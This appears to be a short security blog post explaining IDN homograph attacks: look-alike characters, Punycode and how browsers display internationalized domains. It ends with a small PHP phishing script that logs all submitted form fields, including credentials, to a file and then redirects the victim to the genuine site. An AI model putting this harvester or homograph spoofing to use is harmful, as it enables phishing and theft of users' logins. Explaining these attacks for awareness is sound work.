Dupe URLs: IDN homograph attack

Share on facebook
Share on twitter
Share on linkedin
Share on whatsapp

Are you receiving emails with offers from world’s most reputed Firms???
Well, don’t be overwhelmed, Lad. Here is something I have for you:)

Internationalized Domain Name (IDN) homograph attacks, the kind of spoofing attack where a site address looks legitimate but is not what it seems because a character or characters has been substituted deceptively (a technique very commonly used in phishing). This kind of spoofing attack is also known as script spoofing.

In IDN homograph attack hackers are using similar looking charactersfrom Greek, Latin or Cyrillic characters set.Their incorrect or malicious usage is a possibility for security attacks.



In case you are wondering,2nd one is the fake one but you can’t recognize it with your bare eyes.

Simple homograph attacks:

In simple homograph attack, a fake URL make consist of simple alphanumeric character,
Hackers usually use similar looking symbols,i.e. I(i) with l(L), o with 0,g with q.





Non-English characters in URLs; This feature was added in 2003 due to a high number
of Non-English speaking people that were using the Internet.This feature allowed to register  and use domain names which can be understood by non-English speaking people;
web addresses with the combination of ASCII and non-ASCII characters.


All non-Latin addresses need to be encoded in a special way to be handled by DNS servers. This format is known as Punycode and all browsers translate non-ASCII URLsinto Punycode in the background before performing a DNS lookup. A Punycode domain name always starts from xn-- and then contains ASCII characters of the original address followed by encoded Unicode data. For instance, the latter address from the example above will be encoded in the following form:
Such domain names that contain letters from different alphabets are called Internationalized Domain Names (IDNs). They are handled in various ways by different web browsers. Usually every producer implements his own algorithms for determining the display format of requested URLs and usually, one of two solutions (with some minor modifications) is preferred:

  • Display all URL characters using Unicode,
  • Display all URL characters using Unicode if and only if all the characters belong to the same language that ischosen by user settings; display Punycode URL otherwise.

php script used forphishing:

header (‘Location: http://www.<target>.com’);
$handle = fopen(“log.txt”, “a”);
foreach($_POST as $variable => $value)
fwrite($handle, $variable);
fwrite($handle, “=”);
fwrite($handle, $value);
fwrite($handle,“\r\n”);
fwrite($handle, “\r\n”);

Share onfacebook
Share on twitter
Share onlinkedin
Share on whatsappLeave a Comment

Your email address will not be published.

Scroll to Top